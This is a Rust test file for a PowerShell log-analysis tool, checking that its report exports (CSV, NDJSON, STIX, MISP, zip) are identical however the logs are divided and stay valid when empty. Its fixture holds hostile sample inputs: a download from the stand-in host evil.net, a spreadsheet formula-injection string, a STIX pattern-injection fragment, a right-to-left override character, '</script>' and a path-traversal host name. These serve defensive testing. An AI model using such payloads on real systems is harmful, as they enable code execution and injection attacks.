//! Exports: the same bytes however the logs are divided, and hostile texts that stay inert. Their forms are validated
//! against published schemas in `pkg-tests/exports.test.mjs`.

use scriptscope::report::{ExportFormat, ExportOptions, Table};
use scriptscope::{Options, Session};

const TEXTS: [&str; 4] = [
    "Enable-PSRemoting; iwr http://evil.net/a; $h -eq 'd41d8cd98f00b204e9800998ecf8427e'",
    "=cmd|'/c calc'!A1\r\nEnable-PSRemoting '] OR [url:value = 'x \u{202e}</script>",
    "Enable-PSRemoting; ping 10.9.8.7",
    "Enable-PSRemoting # again",
];

pub(super) const TABLES: [Table; 7] = [
    Table::Results,
    Table::Blocks,
    Table::Risk,
    Table::Acts,
    Table::Scripts,
    Table::Indicators,
    Table::Findings,
];

fn read(session: &mut Session, name: &str, records: &[usize]) {
    session.begin(name).unwrap();
    for index in records {
        let record = serde_json::json!({
            "EventID": 4104, "Channel": "Microsoft-Windows-PowerShell/Operational", "MessageNumber": 1,
            "MessageTotal": 1, "ScriptBlockId": index.to_string(), "ScriptBlockText": TEXTS[index % 4],
            "Computer": format!("../H{index}"), "EventRecordID": index.to_string(),
            "TimeCreated": format!("2026-08-08T06:00:{index:02}.123456700Z"),
        });
        session.push(record.to_string().as_bytes()).unwrap();
    }
    session.end().unwrap();
}

/// Returns every export of a session, by name.
fn exports(session: &mut Session) -> Vec<(String, Vec<u8>)> {
    let mut all = Vec::new();
    for format in ExportFormat::ALL {
        let is_table = matches!(format, ExportFormat::Csv | ExportFormat::Ndjson);
        for table in TABLES.into_iter().take(if is_table { TABLES.len() } else { 1 }) {
            let mut options = ExportOptions::default();
            options.table = table;
            let mut bytes = Vec::new();
            session.export(format, &options, &mut bytes).unwrap();
            all.push((format!("{} {table:?}", format.name()), bytes));
        }
    }
    all
}

#[test]
fn an_export_is_the_same_however_the_logs_are_divided() {
    let mut whole = Session::new(Options::default().with_inventory(true)).unwrap();
    read(&mut whole, "a.json", &[0, 1, 2, 3, 4]);
    read(&mut whole, "b.json", &[5, 6, 7]);
    let mut merged = Session::new(Options::default().with_inventory(true)).unwrap();
    for (name, records) in [("b.json", &[5, 6, 7][..]), ("a.json", &[0, 1, 2, 3, 4])] {
        let mut session = Session::new(Options::default().with_inventory(true)).unwrap();
        read(&mut session, name, records);
        merged.merge(&session.partial().unwrap()).unwrap();
    }
    for ((name, bytes), (_, other)) in exports(&mut whole).iter().zip(exports(&mut merged)) {
        assert!(!bytes.is_empty() || name.contains("Findings"), "{name}");
        assert!(*bytes == other, "{name}");
    }
}

#[test]
fn the_rows_of_a_table_are_those_of_the_report() {
    let mut session = Session::new(Options::default().with_inventory(true)).unwrap();
    read(&mut session, "a.json", &[0, 1, 2, 3]);
    let report = session.report();
    let lines = |session: &mut Session, table: Table, ids: Option<Vec<String>>| {
        let mut options = ExportOptions::default();
        (options.table, options.ids) = (table, ids);
        let mut bytes = Vec::new();
        session.export(ExportFormat::Ndjson, &options, &mut bytes).unwrap();
        String::from_utf8(bytes).unwrap().lines().count()
    };
    assert_eq!(lines(&mut session, Table::Results, None), report.results.len());
    assert_eq!(lines(&mut session, Table::Blocks, None), report.script_blocks.len());
    assert_eq!(lines(&mut session, Table::Risk, None), report.risk_objects.len());
    assert_eq!(lines(&mut session, Table::Acts, None), report.acts.len());
    assert_eq!(lines(&mut session, Table::Scripts, None), 4);
    let first = report.script_blocks.iter().find(|block| block.text.contains("evil.net")).unwrap();
    let of_first = report.results.iter().find(|row| row.blocks[0].id == first.id).unwrap();
    let ids = Some(vec![of_first.id.clone()]);
    assert_eq!(lines(&mut session, Table::Results, ids.clone()), 1);
    assert_eq!(lines(&mut session, Table::Blocks, ids.clone()), 1);
    assert_eq!(lines(&mut session, Table::Indicators, ids), 3);
    assert_eq!(lines(&mut session, Table::Results, Some(Vec::new())), 0);
}

#[test]
fn a_session_without_results_has_exports() {
    let mut session = Session::new(Options::default().with_inventory(true)).unwrap();
    for (name, bytes) in exports(&mut session) {
        let text = String::from_utf8_lossy(&bytes);
        if ["navigator", "stix", "misp"].iter().any(|form| name.starts_with(form)) {
            assert!(serde_json::from_slice::<serde_json::Value>(&bytes).is_ok(), "{name}: {text}");
        } else if name.starts_with("scripts-zip") {
            assert!(bytes.starts_with(b"PK\x03\x04"));
        } else {
            assert!(text.lines().count() <= 1, "{name}: {text}");
        }
    }
}
